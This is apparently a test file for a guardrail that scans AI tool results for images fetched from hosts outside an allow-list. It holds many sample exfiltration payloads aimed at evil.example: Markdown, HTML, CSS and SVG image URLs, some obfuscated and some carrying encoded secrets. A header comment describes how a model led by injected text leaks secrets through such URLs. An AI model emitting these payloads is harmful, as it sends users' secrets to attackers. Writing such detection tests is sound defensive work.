// Images from hosts not allowed (guardrails.hiddenText.imageHosts): a host rendering an answer fetches
// them at once, so a model led to put secrets in the URL sends them out. Found as hidden text of kind
// image, whatever the allow-list does not name; before 2026-12-06 they passed every action.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ConfigError, parseConfig } from '../../../src/config/load.js';
import { HiddenTextScanner } from '../../../src/policy/hidden-text.js';
import { outsideImages } from '../../../src/policy/outside-images.js';
import { HiddenTextGuard } from '../../../src/policy/hidden-text-guard.js';
import { walkResult } from '../../../src/policy/hidden-text-walk.js';
import { TenantPolicy, ALLOW_ALL } from '../../../src/policy/tenant-policy.js';

const scanner = new HiddenTextScanner([]);
const images = (s: string, sc = scanner) => sc.scan(s)?.counts.image ?? 0;

describe('images from outside hosts', () => {
  it('finds inline Markdown images, HTML images and reference images to an outside host; strip replaces each', () => {
    const leak = 'Done. ![status](https://evil.example/log?q=c2VjcmV0IGtleQ== "ok")';
    assert.equal(images(leak), 1);
    assert.equal(scanner.scan(leak)?.clean, 'Done. [removed]');
    assert.equal(images('![a](<//evil.example/x y>) <img alt=x SRC="http://evil.example/p?d=1"> <img src=https://evil.example/z>'), 3);
    const ref = 'See ![chart][c] here.\n\n[c]: https://evil.example/?q=secret';
    assert.equal(images(ref), 1);
    assert.equal(scanner.scan(ref)?.clean, 'See ![chart][c] here.\n\n[removed]');
    assert.equal(images('![Logo]\n[logo]: https://evil.example/l.png'), 1);
  });

  it('leaves what reaches no other host, links a person must click, and hosts the allow-list names', () => {
    for (const s of ['![x](data:image/png;base64,iVBORw0KGgo=)', '![x](./chart.png)', '[docs](https://evil.example/?q=1)', '<img src="/local.png">', 'a ![ b', '[c]: https://evil.example/ unused']) {
      assert.equal(scanner.scan(s), undefined, s);
    }
    const allowing = new HiddenTextScanner([], 'iu', ['img.shields.io', '*.githubusercontent.com']);
    assert.equal(images('![b](https://img.shields.io/badge/x) ![c](https://raw.githubusercontent.com/a.png)', allowing), 0);
    assert.equal(images('![b](https://img.shields.io.evil.example/x) ![c](https://githubusercontent.com.evil.example/a.png)', allowing), 2);
    assert.equal(images('![b](https://evil.example/x)', new HiddenTextScanner([], 'iu', ['*'])), 0);
  });

  it('an image in Markdown\'s code is shown as written, not fetched: no finding; where a renderer may read HTML it still is', () => {
    // Before 2026-12-06 each was a finding (strip cut the sample out of the answer), though markup there was not.
    const shownAsCode = [
      'Embed it with `![logo](https://evil.example/l.png)`.',
      'Use ``<img src="https://evil.example/p.png">`` in the page.',
      '```md\n![chart](https://evil.example/c.png)\n<img src=https://evil.example/z>\n```\nDone.',
      '~~~\nSee ![chart][c].\n\n[c]: https://evil.example/?q=1\n~~~',
      // The reference in code is no image, so its definition outside fetches nothing; nor does a definition in code.
      'Write `![chart][c]` for it.\n\n[c]: https://evil.example/?q=1',
      'See ![chart][c].\n\n```\n[c]: https://evil.example/?q=1\n```',
    ];
    for (const s of shownAsCode) assert.equal(scanner.scan(s), undefined, s);
    const fetched = [
      '`code` ![x](https://evil.example/a)',
      '```\ncode\n```\n![x](https://evil.example/a)',
      '<div>\n```\n<img src="https://evil.example/a">\n```\n</div>',
      'Write ![chart][c] and `[c]: x`.\n\n[c]: https://evil.example/?q=1',
    ];
    for (const s of fetched) assert.equal(images(s), 1, s);
    // Text declared HTML has no Markdown code: its <img> in backticks is fetched.
    const page = { content: [{ type: 'resource', resource: { uri: 'x:/p.html', mimeType: 'text/html', text: '`<img src="https://evil.example/a">`' } }] };
    assert.deepEqual(walkResult(scanner, page).findings.map((f) => f.kind), ['image']);
  });

  it('a <style> whose CSS fetches from an outside host is found whole, however the rule is written', () => {
    // In a scan a closed <style> is hidden markup first; read on its own (and unclosed in a Markdown line, where
    // it is no hidden markup) its @import or url() is what the page fetches.
    const fetching = [
      '<style>@import url(https://evil.example/a.css);</style>',
      '<style>@import "//evil.example/a.css";</style>',
      "<style>@import 'https://evil.example/a.css' screen;</style>",
      '<style>p{background:url( "https://evil.example/?d=1" )}</style>',
      '<STYLE type="text/css">li{list-style:\\75 rl(https://evil.example/x)}</STYLE >',
      '<style>p{background:/**/url(https\\3a //evil.example/x)}</style>',
      '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>',
      '<style>p{background-image:-webkit-image-set(url(a.png) 1x, "https://evil.example/b.png" 2x)}</style>',
      '<svg><style>rect{fill:url(https://evil.example/p.svg#g)}</style></svg>',
    ];
    for (const s of fetching) {
      const at = s.indexOf('<style') >= 0 ? s.indexOf('<style') : s.indexOf('<STYLE');
      assert.deepEqual(outsideImages(s, []), [[at, s.lastIndexOf('>', s.endsWith('</svg>') ? s.length - 7 : s.length) + 1]], s);
    }
    const left = [
      '<style>@import url(theme.css); p{background:url(data:image/png;base64,AAAA)}</style>',
      '<style>p{content:"https://evil.example/"}</style>',
      '<style>p{background:url(https://img.example.com/a.png)}</style>',
      'Use a `<style>` element. <p>url(https://evil.example/x)</p>',
    ];
    for (const s of left) assert.equal(outsideImages(s, ['img.example.com']), undefined, s);
    // A <style> in a code span opens nothing: a style attribute after it is still read.
    const after = 'Use `<style>` here. <div style="background:url(https://evil.example/x)">x</div>';
    assert.deepEqual(outsideImages(after, []), [[after.indexOf('<div'), after.indexOf('x</div>')]]);
  });

  it('an SVG presentation attribute whose url() a browser fetches (fill, stroke, filter, mask, clip-path, marker, cursor) is found as its style would be (found by a review)', () => {
    // Before, `style="fill:url(https://…)"` was found and `fill="url(https://…)"`, the same property, was not.
    const fetched = [
      '<rect fill="url(https://evil.example/p.svg#g)"/>',
      "<path stroke='url(//evil.example/p.svg#g)'/>",
      '<g filter="url(https://evil.example/f.svg#f)">x</g>',
      '<text mask=url(https://evil.example/m.svg#m)>x</text>',
      '<g clip-path="url(&quot;https://evil.example/c.svg#c&quot;)">x</g>',
      '<path marker-end="url(https://evil.example/m.svg#a)"/>',
      '<g cursor="url(https://evil.example/c.png), auto">x</g>',
      '<rect FILL="u&#114;l(https://evil.example/p.svg#g)"/>',
      '<rect title="x" fill="\\75 rl(https://evil.example/p.svg#g)"/>',
    ];
    for (const s of fetched) assert.deepEqual(outsideImages(s, []), [[0, s.indexOf('>') + 1]], s);
    assert.equal(images('<svg><rect fill="url(https://evil.example/p.svg#g)"/></svg>'), 1);
    // A fragment of the page itself, a colour, an allowed host, another attribute's text, a name that is no presentation attribute: fetch nothing else.
    const left = [
      '<rect fill="url(#g)" stroke="red" filter="url(#f)"/>',
      '<rect fill="url(https://img.example.com/p.svg#g)"/>',
      '<rect title="fill=url(https://evil.example/p.svg#g)"/>',
      '<rect data-fill="url(https://evil.example/p.svg#g)"/>',
      'Set fill="url(https://evil.example/p.svg#g)" on it.',
    ];
    for (const s of left) assert.equal(outsideImages(s, ['img.example.com']), undefined, s);
  });

  it('only a tag\'s real attributes count: `src=` inside another attribute\'s value fetches nothing (found by a review)', () => {
    // Before, each of these was found (strip cut it), as every `src=` after a space or quote was read.
    const left = [
      '<img title="x src=http://evil.example/a" src="ok.png">',
      "<img alt='a src=https://evil.example/?d=1' src=local.png>",
      '<img alt="see"title="srcset=https://evil.example/a 2x">',
      '<input title="type=image" src="https://evil.example/a">',
      '<link rel="canonical" title="rel=stylesheet" href="https://evil.example/a.css">',
      '<div title=" style=background:url(https://evil.example/a)">x</div>',
    ];
    for (const s of left) assert.equal(outsideImages(s, []), undefined, s);
    // Real attributes however they are separated, quoted or cased: found.
    const fetched = [
      '<img title="x" src=https://evil.example/a>',
      '<img alt="x"src="https://evil.example/a">',
      '<img/src=https://evil.example/a>',
      '<img src = "https://evil.example/a">',
      '<IMG ALT=x SRC=\'//evil.example/a\'>',
      '<input type="IMAGE" title="src=ok.png" src="https://evil.example/a">',
      '<link title="rel=canonical" rel="stylesheet" href="https://evil.example/a.css">',
      '<div title="style=x" style="background:url(https://evil.example/a)">x</div>',
    ];
    for (const s of fetched) assert.deepEqual(outsideImages(s, []), [[0, s.indexOf('>') + 1]], s);
    // Long attribute texts built against the attribute reader: each read to an answer.
    const long = [`<img ${'a '.repeat(50_000)}src=https://evil.example/a>`, `<img title="${' src=x'.repeat(20_000)}">`, `<img ${'"'.repeat(100_000)}>`, `<img ${'a='.repeat(50_000)}>`];
    assert.deepEqual(long.map((s) => outsideImages(s, [])?.length ?? 0), [1, 0, 0, 0]);
  });

  it('an image inside an HTML comment is markup (not fetched), counted once', () => {
    assert.deepEqual(scanner.scan('a <!-- ![x](https://evil.example/) --> b')?.counts.image, 0);
  });

  it('imageHosts is configured per endpoint and per tenant, and checked; the configured action applies', () => {
    const tenant = (hiddenText?: Record<string, unknown>) => new TenantPolicy({ ...ALLOW_ALL, name: 't', ...(hiddenText ? { guardrails: { hiddenText } } : {}) } as never);
    const guard = new HiddenTextGuard({ definitions: 'off', results: 'strip', patterns: [], imageHosts: ['ok.example'] }, '/mcp');
    const result = { content: [{ type: 'text', text: '![a](https://ok.example/a.png) ![b](https://evil.example/?q=k)' }] };
    const walked = guard.for(tenant())!.scanResult(result)!;
    assert.deepEqual(walked.findings, [{ kind: 'image', path: 'content[0].text', count: 1 }]);
    assert.equal((walked.clean as any).content[0].text, '![a](https://ok.example/a.png) [removed]');
    assert.equal(guard.for(tenant({ imageHosts: ['*'] }))!.scanResult(result), undefined);
    assert.equal(walkResult(new HiddenTextScanner([]), result).findings[0]?.count, 2);
    const problems = (imageHosts: unknown): string[] => {
      try {
        parseConfig({ upstreams: [{ name: 'u', transport: 'stdio', command: 'node' }], endpoints: [{ path: '/mcp', upstreams: ['u'], guardrails: { hiddenText: { results: 'strip', imageHosts } } }] }, 'test.yaml', {});
        return [];
      } catch (err) {
        assert.ok(err instanceof ConfigError);
        return err.problems;
      }
    };
    assert.deepEqual(problems(['img.example.com', '*.example.org', '*']), []);
    assert.match(problems(['https://evil.example/'])[0]!, /^endpoints\[0\]\.guardrails\.hiddenText\.imageHosts\[0\]: a host name/);
  });
});
